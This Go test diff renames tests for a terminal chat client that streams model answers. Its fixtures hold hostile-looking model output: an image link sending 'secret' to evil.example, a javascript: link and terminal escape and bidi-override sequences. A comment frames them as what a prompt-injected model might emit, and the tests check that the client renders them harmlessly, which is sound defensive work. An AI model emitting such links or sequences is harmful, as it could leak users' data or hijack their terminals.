@@ -56,7 +56,7 @@ func exploring(answer agenttest.Reply) agenttest.Script {
 	}}
 }
 
-func TestAWholeInvestigationInATerminal(t *testing.T) {
+func TestChatProgram_WholeInvestigation(t *testing.T) {
 	answer := agenttest.Reply{Chunks: 1, Deltas: 5, Text: "You asked in *spring* [1], and again [2], not [7].\n\n![x](https://evil.example/?q=secret)\n"}
 	term, server := chatOn(t, newFake(800), exploring(answer), 120, 40)
 	term.press(t, "c")
@@ -98,7 +98,7 @@ func TestAWholeInvestigationInATerminal(t *testing.T) {
 // endless goes on saying something for as long as anybody listens.
 var endless = agenttest.Script{Replies: []agenttest.Reply{{Text: strings.Repeat("word ", 20000), Delay: time.Millisecond}}}
 
-func TestEscStopsTheAnswerAndTheCallOfTheModel(t *testing.T) {
+func TestChatProgram_EscStopsAnswerAndModelCall(t *testing.T) {
 	term, server := chatOn(t, newFake(30), endless, 80, 24)
 	term.press(t, "cgo on?\r")
 	term.waitFor(t, "word word")
@@ -114,7 +114,7 @@ func TestEscStopsTheAnswerAndTheCallOfTheModel(t *testing.T) {
 	}
 }
 
-func TestTenCancelledStreamsLeaveNothingBehind(t *testing.T) {
+func TestChatProgram_CanceledStreamsLeakNothing(t *testing.T) {
 	before := goleak.IgnoreCurrent()
 	t.Run("the run", func(t *testing.T) {
 		term, server := chatOn(t, newFake(30), endless, 80, 24)
@@ -145,7 +145,7 @@ func TestTenCancelledStreamsLeaveNothingBehind(t *testing.T) {
 		goleak.IgnoreAnyFunction("github.com/dlclark/regexp2.runClock"), goleak.IgnoreAnyFunction("github.com/charmbracelet/ultraviolet.(*TerminalReader).StreamEvents"))
 }
 
-func TestWhatBreaksOffIsNoAnswer(t *testing.T) {
+func TestChatProgram_BrokenStreamIsNoAnswer(t *testing.T) {
 	script := agenttest.Script{Replies: []agenttest.Reply{{Text: strings.Repeat("Half of it. ", 40), Fault: agenttest.Fault{Cut: 4000}}, {Text: "All of it.\n"}}}
 	term, _ := chatOn(t, newFake(30), script, 80, 24)
 	term.press(t, "cgo on?\r")
@@ -159,7 +159,7 @@ func TestWhatBreaksOffIsNoAnswer(t *testing.T) {
 }
 
 // A model that was turned by what it read says, and calls its tools with, whatever would take the terminal over.
-func TestAHostileAnswerIsText(t *testing.T) {
+func TestSanitize_Answers(t *testing.T) {
 	run := func(texts []string) string {
 		text := strings.Join(texts, "\n\n") + "\n\n[click](javascript:alert(1)) ![](http://evil.example/x.png) <b>b</b> &#27;[2J &#x202e; [1]: http://evil.example\n\nthe end"
 		script := agenttest.Script{Replies: []agenttest.Reply{
@@ -191,7 +191,7 @@ func TestAHostileAnswerIsText(t *testing.T) {
 }
 
 // From the key to the screen that says so, the wait for what follows an escape included.
-func BenchmarkEscStops(b *testing.B) {
+func BenchmarkChat_EscStops(b *testing.B) {
 	term, _ := chatOn(b, newFake(30), endless, 80, 24)
 	for b.Loop() {
 		b.StopTimer()
@@ -206,7 +206,7 @@ func BenchmarkEscStops(b *testing.B) {
 }
 
 // From the model's first byte, sent over HTTP, to the word on the screen, looked for every five milliseconds.
-func BenchmarkFirstWordShows(b *testing.B) {
+func BenchmarkChat_FirstWord(b *testing.B) {
 	var sent atomic.Int64
 	said := 0
 	server := agenttest.NewFunc(b, func(agenttest.Request) agenttest.Reply {
